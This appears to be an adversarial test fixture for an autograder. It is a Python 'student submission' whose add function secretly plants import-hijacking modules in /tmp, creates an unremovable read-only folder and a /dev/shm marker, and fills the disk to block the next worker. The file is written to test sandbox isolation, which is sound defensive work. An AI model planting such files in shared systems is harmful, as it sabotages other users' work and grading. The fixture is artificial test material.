"""Attack (first of a pair; see tmp_plant_b_victim): leave files for the next student's
worker. It plants modules where a worker might import them (/tmp/pytest.py, /tmp/numpy.py,
/tmp/sitecustomize.py), a read-only folder that resists emptying, a marker in /dev/shm, and
then fills /tmp until the disk is full, so that the next worker cannot even start.

Expected (this file): score 0 (add is wrong, scale not implemented); the victim graded after
it by the same grading process keeps 5/5.
"""
import os

PLANTED = "ADVERSARIAL-PLANTED"


def _plant():
    for name in ("pytest.py", "numpy.py", "sitecustomize.py", "tomllib.py"):
        try:
            with open(os.path.join("/tmp", name), "w") as handle:
                handle.write(f"import os\nos.environ['{PLANTED}'] = '1'\nraise SystemExit(3)\n")
        except OSError:
            pass
    try:
        os.makedirs("/tmp/ADVERSARIAL-ro/inner", exist_ok=True)
        open("/tmp/ADVERSARIAL-ro/inner/marker", "w").write(PLANTED)
        os.chmod("/tmp/ADVERSARIAL-ro/inner", 0o500)
        os.chmod("/tmp/ADVERSARIAL-ro", 0o500)
    except OSError:
        pass
    try:
        open("/dev/shm/ADVERSARIAL-shm", "w").write(PLANTED)
    except OSError:
        pass
    try:
        with open("/tmp/ADVERSARIAL-fill", "wb") as handle:
            for _ in range(4096):
                handle.write(b"\0" * (1 << 20))
    except OSError:
        pass


def add(a, b):
    _plant()
    return a - b


def scale(x, k):
    raise NotImplementedError
